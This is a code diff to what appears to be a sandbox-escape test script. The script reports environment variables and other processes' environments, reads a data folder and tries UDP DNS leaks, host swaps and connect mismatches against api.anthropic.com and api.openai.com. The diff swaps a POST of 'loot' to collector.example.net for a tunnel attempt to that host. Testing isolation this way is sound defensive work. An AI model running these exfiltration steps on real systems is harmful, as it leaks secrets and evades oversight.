@@ -10,7 +10,13 @@ import { Resolver } from "node:dns/promises";
 import { readdir, readFile } from "node:fs/promises";
 import { join } from "node:path";
 import { inspect } from "node:util";
-import { attemptConnectMismatch, attemptHostSwap, attemptTcp, sendRaw } from "./attack-wire.ts";
+import {
+  attemptConnectMismatch,
+  attemptHostSwap,
+  attemptTcp,
+  attemptTunnel,
+  sendRaw,
+} from "./attack-wire.ts";
 import type { AttackOrders } from "./attack-orders.ts";
 
 const orders = JSON.parse(process.argv[2] ?? "{}") as AttackOrders;
@@ -83,15 +89,6 @@ async function useForbiddenModel(): Promise<object> {
   return sendRaw(url, { method: "POST", path: url.pathname, headers, body });
 }
 
-async function callUnlistedHost(): Promise<object> {
-  try {
-    const response = await fetch("https://collector.example.net/drop", { method: "POST", body: "loot" });
-    return { status: response.status, body: await response.text() };
-  } catch (error) {
-    return { error: failure(error) };
-  }
-}
-
 async function leakOverUdp(): Promise<object> {
   const resolver = new Resolver({ timeout: 500, tries: 1 });
   resolver.setServers([`127.0.0.1:${orders.udpPort}`]);
@@ -110,7 +107,7 @@ report("environment", { variables: { ...environment } });
 report("other processes", await readEveryEnvironment());
 report("data folder", await readDataFolder());
 for (const model of orders.echoModels) report("echo", await askForEcho(model));
-report("unlisted host", await callUnlistedHost());
+report("unlisted host", await attemptTunnel(environment, "collector.example.net:443"));
 report("host swap", await attemptHostSwap(environment));
 report("connect mismatch: server name", await attemptConnectMismatch(environment, "api.anthropic.com"));
 report("connect mismatch: host", await attemptConnectMismatch(environment, "api.openai.com"));
